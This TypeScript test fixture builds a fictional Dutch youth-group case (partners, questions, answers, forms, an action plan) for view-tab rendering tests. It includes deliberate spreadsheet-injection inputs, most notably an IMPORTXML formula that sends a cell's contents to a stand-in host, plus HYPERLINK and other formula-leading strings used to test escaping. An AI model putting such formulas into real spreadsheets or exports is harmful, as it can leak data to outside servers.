/**
 * A hand-built, fictional case for the view-tab tests: three partners, a case in step 6
 * round 2 (one partner answered, one open, one past its deadline), an edited answer, per-person
 * answers in 2B, two monitoring rounds and naughty answer texts.
 */

import type { Partner, Question, StepId } from '../../src/model/types';
import type { AnswerRecord, CaseView, FormRecord } from '../../src/render/caseView';

export const NOW = Date.UTC(2026, 2, 4, 10, 0, 0); // woensdag 4 maart 2026, 11:00 in Nederland

const partner = (id: string, organisation: string, kind: Partner['kind']): Partner => ({
  id,
  organisation,
  kind,
  contactName: `Contactpersoon ${id}`,
  email: `${id}@partner.example`,
  steps: ['1', '2A', '2B', '3', '4', '5', '6', '7'],
  levels: ['groep', 'persoon', 'domein', 'online'],
  active: true,
});

export const PARTNERS: Partner[] = [
  partner('politie', 'Politie Basisteam Noord', 'politie'),
  partner('jw', '=Jongerenwerk "Oost"', 'jongerenwerk'),
  partner('boa', 'Handhaving Voorbeeld', 'boa'),
];

const q = (id: string, step: StepId, extra: Partial<Question> = {}): Question => ({
  id,
  step,
  kinds: 'all',
  level: 'groep',
  theme: 'groepsbeschrijving',
  type: 'paragraph',
  title: `Vraag ${id}`,
  source: 'I',
  ...extra,
});

export const CATALOG: Question[] = [
  q('1.signaal', '1', { title: 'Wat is er gesignaleerd?' }),
  q('2A.omvang', '2A', { title: 'Hoe groot is de groep?' }),
  q('2A.politie', '2A', { kinds: ['politie'], title: 'Registraties op groepsniveau' }),
  q('2B.rol', '2B', { level: 'persoon', repeat: 'per_person', title: 'Rol in de groep' }),
  q('6.actie.status', '6', {
    type: 'choice',
    repeat: 'per_action',
    title: 'Hoe staat de actie ervoor?',
    choices: ['Loopt', 'Gereed', 'Afgerond'],
  }),
  q('6.actie.toelichting', '6', { repeat: 'per_action', title: 'Toelichting' }),
];

let seq = 0;
const ans = (
  step: StepId,
  round: number,
  partnerId: string,
  questionId: string,
  value: string,
  extra: Partial<AnswerRecord> = {},
): AnswerRecord => ({
  formKey: `${step}#${round}#${partnerId}`,
  step,
  round,
  partnerId,
  responseId: `r-${step}-${round}-${partnerId}`,
  version: 1,
  submittedAt: Date.UTC(2026, 0, 5) + ++seq * 3_600_000,
  questionId,
  value,
  ...extra,
});

export const NAUGHTY_SIGNAL = '=IMPORTXML("https://x/?"&A1,"//a")';

export const ANSWERS: AnswerRecord[] = [
  ans('1', 1, 'politie', '1.signaal', NAUGHTY_SIGNAL),
  ans('1', 1, 'jw', '1.signaal', '0612345678'),
  ans('2A', 1, 'politie', '2A.omvang', '8 tot 12 jongeren', { version: 2 }),
  ans('2A', 1, 'jw', '2A.omvang', 'ongeveer 10'),
  ans('2A', 1, 'politie', '2A.politie', '+31 6 12345678'),
  ans('2B', 1, 'politie', '2B.rol', 'kern', { subject: 'P-7F3K' }),
  ans('2B', 1, 'politie', '2B.rol', 'meeloper', { subject: 'P-9Q2M' }),
  ans('2B', 1, 'jw', '2B.rol', '@naam bekend bij jongerenwerk', { subject: 'P-7F3K' }),
  ans('6', 1, 'politie', '6.actie.status', 'Loopt', { subject: 'A1' }),
  ans('6', 1, 'politie', '6.actie.toelichting', 'eerste gesprek gevoerd', { subject: 'A1' }),
  ans('6', 1, 'jw', '6.actie.status', 'Gereed', { subject: 'A2' }),
  ans('6', 2, 'politie', '6.actie.status', 'Afgerond', { subject: 'A1' }),
  ans('6', 2, 'politie', '6.actie.toelichting', 'afgerond in februari', { subject: 'A1' }),
];

const form = (
  step: StepId,
  round: number,
  partnerId: string,
  deadline: string,
  extra: Partial<FormRecord> = {},
): FormRecord => ({
  formKey: `${step}#${round}#${partnerId}`,
  step,
  round,
  partnerId,
  formId: `form-${step}-${round}-${partnerId}`,
  publishedUrl: `https://docs.google.com/forms/d/e/${step}-${round}-${partnerId}/viewform`,
  status: 'beantwoord',
  deadline,
  createdAt: Date.parse(`${deadline}T08:00:00Z`) - 14 * 86_400_000,
  reminders: [],
  planVersion: 0,
  responseCount: 1,
  respondedAt: Date.parse(`${deadline}T09:00:00Z`) - 86_400_000,
  ...extra,
});

const open = { status: 'open', responseCount: 0, respondedAt: undefined } as const;

export const FORMS: FormRecord[] = [
  form('1', 1, 'politie', '2026-01-12'),
  form('1', 1, 'jw', '2026-01-12'),
  form('2A', 1, 'politie', '2026-01-26'),
  form('2A', 1, 'jw', '2026-01-26'),
  form('2B', 1, 'politie', '2026-02-02'),
  form('2B', 1, 'jw', '2026-02-02'),
  form('6', 1, 'politie', '2026-02-13'),
  form('6', 1, 'jw', '2026-02-13'),
  form('6', 2, 'politie', '2026-03-11', { respondedAt: Date.UTC(2026, 2, 2, 9) }),
  form('6', 2, 'jw', '2026-02-27', {
    ...open,
    reminders: [Date.UTC(2026, 1, 25, 8), Date.UTC(2026, 1, 27, 8)],
  }),
  form('6', 2, 'boa', '2026-03-11', open),
];

export function caseView(over: Partial<CaseView> = {}): CaseView {
  return {
    code: 'JGA-2026-001',
    openedOn: '2026-01-02',
    settings: {
      gemeente: 'Voorbeeldstad',
      casePrefix: 'JGA',
      naming: '2023',
      coordinatorName: 'Procesregisseur Voorbeeld',
      coordinatorEmail: 'procesregisseur@gemeente.example',
      deadlineWorkdays: { default: 10 },
      reminderWorkdaysBefore: 2,
      retentionMonths: 24,
      bevrijdingsdagEveryYear: false,
      mailSenderName: 'Groepsaanpak Voorbeeldstad',
      allowResponseEdits: true,
      mailTexts: {},
    },
    partners: PARTNERS,
    catalog: CATALOG,
    state: {
      code: 'JGA-2026-001',
      status: 'open',
      step: '6',
      round: 2,
      rounds: { '1': 1, '2A': 1, '2B': 1, '3': 1, '4': 1, '5': 1, '6': 2 },
      personDataAllowed: true,
      decisions: [
        {
          step: '1',
          round: 1,
          outcome: 'verder_verkennen',
          motivation: 'Signalen van twee partners',
          decidedBy: 'partneroverleg',
          date: '2026-01-14',
        },
        {
          step: '2A',
          round: 1,
          outcome: 'problematisch',
          motivation: '+ veel overlast',
          decidedBy: 'partneroverleg',
          date: '2026-01-28',
        },
        {
          step: '4',
          round: 1,
          outcome: 'geprioriteerd',
          motivation: 'Prioriteit',
          decidedBy: 'lokale driehoek',
          date: '2026-02-05',
          directions: '=HYPERLINK("https://x")',
        },
      ],
    },
    forms: FORMS,
    answers: ANSWERS,
    history: ANSWERS,
    persons: ['P-7F3K', 'P-9Q2M', 'P-4XZ8'],
    plan: {
      version: 2,
      criteria: [{ id: 'C1', text: 'Twee rondes op rij onder de streefwaarde' }],
      evaluationDate: '2026-12-31',
      goals: [
        {
          id: 'D1',
          text: 'Minder overlast op het plein',
          indicator: 'Meldingen per maand',
          baseline: 10,
          target: 5,
          measureDate: '2026-12-31',
        },
      ],
      actions: [
        {
          id: 'A1',
          spoor: 'groep',
          text: 'Gesprekken met de groep',
          goalId: 'D1',
          owner: 'politie',
          start: '2026-01-05',
          frequency: 'wekelijks',
          deadline: '2026-03-31',
        },
        {
          id: 'A2',
          spoor: 'persoon',
          text: '-1 bezoek thuis',
          goalId: 'D1',
          owner: 'jw',
          start: '2026-01-05',
          frequency: 'wekelijks',
          deadline: '2026-04-15',
          subject: 'P-7F3K',
        },
      ],
    },
    planHistory: [],
    quarantined: 0,
    log: [
      { at: Date.UTC(2026, 1, 2, 9), event: 'ronde gestart', detail: 'stap 6 ronde 1' },
      { at: Date.UTC(2026, 0, 2, 9), event: 'casus geopend', detail: 'JGA-2026-001' },
      { at: Date.UTC(2026, 2, 2, 9), event: 'antwoord ontvangen', detail: '=1+1' },
    ],
    now: NOW,
    timeZone: 'Europe/Amsterdam',
    ...over,
  };
}
